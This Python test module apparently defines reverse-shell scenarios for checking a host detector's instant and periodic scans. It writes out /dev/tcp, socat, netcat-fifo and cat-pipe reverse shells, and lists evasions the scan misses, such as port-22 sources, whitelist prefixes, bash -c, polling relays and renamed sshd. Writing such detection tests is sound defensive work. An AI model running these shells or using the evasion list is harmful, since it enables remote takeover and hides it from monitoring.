"""Attacks for the instant scan: those that it finds, and those that it does not find, with the rule.

An attack must not be judged before its order: the scan would then already know the connections of all attacks. So no
shell that has a terminal or waits on a connection may start a program while it is staged.
"""

import os
import pathlib
import shutil
import sys

from campaign import ATTACKS, ORDER, PYTHON, Attack, sha256
from stage import BASH, ON_LINE, Process, loopback, socketpair, tcp

DASH = "/usr/bin/dash"
LOOP = 'while read -r line; do eval "$line"; done'
DEV_TCP = "bash -i on /dev/tcp, which waits in select"
IPV6 = "peer over IPv6"
MAPPED = "peer over IPv4 on an IPv6 socket"
TWO_ADDRESSES = "connection from 127.0.0.1 to 127.0.0.2: two addresses"
COMMAND_OVER_IPV6 = "bash -c over IPv6: only TCP over IPv4 is exempt"
HOSTILE_CMDLINE = "hostile command line"
RELAYED = "pipe from a parent that reads the connection"
EXEMPT = "whitelist entry that the command line begins with"
READING = "bash in a read of the connection"
DASH_READING = "dash in a read of the connection"
TWINS = "two shells on one connection"
SOCAT = "socat's terminal"
BUILT_IN = "shell that starts no process: it is not inspected"
PORT_22 = "local port 22: taken for a service"
COMMAND = "bash -c: business"
SCRIPT_FILE = "shell that runs a script file: business"
RELAYED_COMMAND = "bash -c behind a relay: business"
POLLING = "relay that polls: it does not wait in a read"
NETCAT = "netcat as the relay: it polls and starts no process"
CAT = "cat as the relay: it starts no process, so it is not inspected"
# The kernel keeps the port, but its table shows 0: raw_sock_seq_show in net/ipv4/raw.c.
RAW = "Unix socket, and a raw socket of the parent with a remote port: the kernel does not show the port"
RAW_PORTLESS = "Unix socket, and a raw socket of the parent without a remote port: no peer to report"
TERMINAL_OF_DAEMON = "terminal of a program with the ssh daemon's inode, whatever its name"
ORPHAN = "shell under init: its child processes are ignored"
FED_LOCALLY = "pipe from a child that has no socket: no peer to report"
FED = "pipe from a child that has a new connection: taken for a client"
HOSTILE = "".join(("one\ntwo\r\n", '"\'\\\\"}],\\u0000', "a\udcffb\udcfec\udc80d", "%s%n", "żółw 🐢", "x" * 3500))


def reader(line, shell, program=BASH, **more):
    """A shell with these arguments reads its orders from the connection."""
    processes = {"shell": Process(ON_LINE, run=(program, *shell))}
    return Attack({"line": line}, processes, shell, program=program, **more)


def started_by(script, channels, descriptors, *arguments, shell, **more):
    """A shell that a script in attacks/ starts. The script is its parent and the event's sourcePath."""
    run = (*PYTHON, str(ATTACKS / script), *arguments, BASH, *shell)
    return Attack(channels, {"script": Process(descriptors, run=run)}, shell, parent="script", **more)


def fed_by_child(channels, descriptors, shell, **more):
    """A shell that reads a pipe that its own child writes."""
    run = (*PYTHON, str(ATTACKS / "feeder.py"), BASH, *shell)
    return Attack(channels, {"shell": Process(descriptors, run=run, becomes=shell)}, shell, **more)


def on_terminal_of(line, *command, shell):
    """A shell on a terminal of a common program. The event's sourcePath is then that program's command line."""
    cmdline = " ".join(command)
    run = (shutil.which(command[0]) or command[0], *command)
    return Attack(
        {"line": line},
        {"program": Process(ON_LINE, run=run)},
        shell,
        parent="program",
        holder="program",
        source=cmdline,
        hash=sha256(cmdline.encode()),
    )


def under_bash(command, shell, **more):
    """A shell started by bash -c."""
    return Attack({}, {"outer": Process({}, run=(BASH, "bash", "-c", command))}, shell, parent="outer", **more)


class Site:
    """Addresses and files of the attacks. The directory is also the agent's TAVORIN_ETC and lists a temporary shell."""

    def __init__(self, attacker, directory):
        self.address, self.port = attacker.tcp
        self.line = tcp(attacker.tcp)
        self.line_over_ipv6 = tcp(attacker.tcp6)
        self.line_mapped = tcp((f"::ffff:{self.address}", self.port))
        self.line_from_port_22 = tcp(attacker.tcp, (attacker.host_ipv4, 22))
        self.connect = f"/dev/tcp/{self.address}/{self.port}"

        shell = self._program(directory / "throw-away", b"listed")
        (directory / "default_shells").write_text(f"{shell}\n")
        self.hard_link, self.copy = str(directory / "linked"), str(directory / "copied")
        os.link(shell, self.hard_link)
        shutil.copy(shell, self.copy)
        self.unlisted = str(self._program(directory / "unlisted", b"unlisted"))
        self.script = str(directory / "script.sh")
        pathlib.Path(self.script).write_text(LOOP + "\n")
        # A directory for the agent's PATH, with a program that the agent takes for the ssh daemon.
        self.sbin = directory / "sbin"
        self.sbin.mkdir()
        shutil.copy(os.path.realpath(sys.executable), self.sbin / "sshd")
        self.renamed_daemon = str(directory / "renamed")
        os.link(self.sbin / "sshd", self.renamed_daemon)
        self.fifo = str(directory / "fifo")
        os.mkfifo(self.fifo)

    def _program(self, path, addition):
        """A copy of bash with a changed content."""
        path.write_bytes(pathlib.Path(BASH).read_bytes() + addition)
        path.chmod(0o755)
        return path


def interactive(mark):
    return ("bash", "--norc", "-i", "-s", mark)


def on_dev_tcp(site):
    shell = interactive("dev-tcp")
    command = f"cd /; exec {' '.join(shell)} >& {site.connect} 0>&1"
    process = Process({}, run=(BASH, "bash", "-c", command), becomes=shell)
    return Attack({}, {"shell": process}, shell, directory="/")


def relayed(site, how, *shell):
    return started_by("relay.py", {"line": site.line}, {0: "line"}, how, shell=shell, holder="script")


def beside_raw_socket(site, port, mark):
    descriptors = {0: "orders.second", 1: "orders.second"}
    return started_by(
        *("raw.py", {"orders": socketpair()}, descriptors, site.address, port),
        **{"shell": ("bash", "-s", mark), "holder": "script", "orders": "orders.first"},
    )


def behind_netcat(site):
    nc = ("nc", site.address, str(site.port))
    command = f"{' '.join(nc)} < {site.fifo} | bash -s netcat > {site.fifo} 2>&1; :"
    return under_bash(command, ("bash", "-s", "netcat"), holder=nc)


def behind_cat(site):
    command = f"exec 5<>{site.connect}; cat <&5 | bash -s cat >&5 2>&1; :"
    return under_bash(command, ("bash", "-s", "cat"), holder="outer")


def on_terminal_of_grandparent(site):
    shell = interactive("grandchild")
    between = (*PYTHON, str(ATTACKS / "between.py"), BASH, *shell)
    run = (*PYTHON, str(ATTACKS / "terminal.py"), *between)
    return Attack({"line": site.line}, {"grandparent": Process({0: "line"}, run=run)}, shell, holder="grandparent")


def on_terminal_of_daemon(site):
    shell = interactive("daemon")
    run = (site.renamed_daemon, "python3", str(ATTACKS / "terminal.py"), BASH, *shell)
    return Attack({"line": site.line}, {"daemon": Process({0: "line"}, run=run)}, shell, holder="daemon")


def twins(site):
    processes = {name: Process(ON_LINE, run=(DASH, "sh", "-s", name)) for name in ("twin", "other-twin")}
    # The sleep lets the other shell read the next order.
    return Attack({"line": site.line}, processes, ("sh", "-s", "twin"), program=DASH, order=f"{ORDER}; sleep 0.5")


def fed_without_socket(site):
    channels, descriptors = {"orders": socketpair()}, {0: "orders.second", 1: "orders.second"}
    return fed_by_child(channels, descriptors, ("bash", "-s", "fed-locally"), connected=False, orders="orders.first")


# Attacks by name, as functions of the site. The pass after their first order finds these:
FOUND = {
    DEV_TCP: on_dev_tcp,
    READING: lambda site: reader(site.line, ("bash", "-s", "reads")),
    DASH_READING: lambda site: reader(site.line, ("sh", "-s", "dash"), DASH),
    IPV6: lambda site: reader(site.line_over_ipv6, ("bash", "-s", "ipv6")),
    MAPPED: lambda site: reader(site.line_mapped, ("bash", "-s", "mapped")),
    TWO_ADDRESSES: lambda site: reader(loopback("127.0.0.2"), ("bash", "-s", "two-addresses"), orders="line.accepted"),
    "hard link of a shell under another name": lambda site: reader(
        site.line, ("sync", "-s", "linked"), site.hard_link, source=site.hard_link
    ),
    "copy of a shell under another name": lambda site: reader(
        site.line, ("sync", "-s", "copied"), site.copy, source=site.copy
    ),
    COMMAND_OVER_IPV6: lambda site: reader(site.line_over_ipv6, ("bash", "-c", LOOP, "command-ipv6")),
    HOSTILE_CMDLINE: lambda site: reader(site.line, ("bash", "-s", HOSTILE)),
    TWINS: twins,
    RELAYED: lambda site: relayed(site, "read", "bash", "-s", "relayed"),
    "Python's terminal": lambda site: started_by(
        "terminal.py", {"line": site.line}, {0: "line"}, shell=interactive("pty"), holder="script"
    ),
    "script's terminal": lambda site: on_terminal_of(
        site.line, "script", "-q", "-c", "exec bash --norc -i -s script", "/dev/null", shell=interactive("script")
    ),
    SOCAT: lambda site: on_terminal_of(
        site.line, "socat", "FD:0", "EXEC:bash --norc -i -s socat,pty,setsid,ctty,stderr", shell=interactive("socat")
    ),
}

# The pass after their first order does not find these, because of the rule in the name:
SILENT = {
    "peer is 127.0.0.1: one address on both sides": lambda site: reader(
        loopback("127.0.0.1"), ("bash", "-s", "one-address"), orders="line.accepted"
    ),
    BUILT_IN: lambda site: reader(site.line, ("bash", "-s", "built-in"), order="echo $((6*7))-e2e"),
    PORT_22: lambda site: reader(site.line_from_port_22, ("bash", "-s", "port-22")),
    EXEMPT: lambda site: reader(site.line, ("bash", "-s", "exempted-by-prefix")),
    "program that is neither a listed shell nor a copy of one": lambda site: reader(
        site.line, ("bash", "-s", "unlisted"), site.unlisted
    ),
    COMMAND: lambda site: reader(site.line, ("bash", "-c", LOOP, "command")),
    SCRIPT_FILE: lambda site: reader(site.line, ("bash", site.script, "script-file")),
    RELAYED_COMMAND: lambda site: relayed(site, "read", "bash", "-c", LOOP, "relayed-command"),
    POLLING: lambda site: relayed(site, "poll", "bash", "-s", "polled"),
    NETCAT: behind_netcat,
    CAT: behind_cat,
    RAW: lambda site: beside_raw_socket(site, "4444", "raw"),
    RAW_PORTLESS: lambda site: beside_raw_socket(site, "0", "raw-portless"),
    "terminal of a grandparent: only the parent is inspected": on_terminal_of_grandparent,
    TERMINAL_OF_DAEMON: on_terminal_of_daemon,
    ORPHAN: lambda site: started_by("daemon.py", {"line": site.line}, ON_LINE, shell=("bash", "-s", "orphan")),
    FED_LOCALLY: fed_without_socket,
    FED: lambda site: fed_by_child({"line": site.line}, ON_LINE, ("bash", "-s", "fed")),
}

# Programs that attacks need and that may not be installed.
NEEDED = {NETCAT: "nc", SOCAT: "socat"}

# The attacks that the period scan finds: a program called bash whose input or output leads to a foreign connection.
FOUND_BY_PERIOD_SCAN = {
    DEV_TCP,
    READING,
    IPV6,
    MAPPED,
    TWO_ADDRESSES,
    COMMAND_OVER_IPV6,
    HOSTILE_CMDLINE,
    RELAYED,
    BUILT_IN,
    PORT_22,
    EXEMPT,
    COMMAND,
    SCRIPT_FILE,
    RELAYED_COMMAND,
    POLLING,
    NETCAT,
    CAT,
    ORPHAN,
    FED,
}
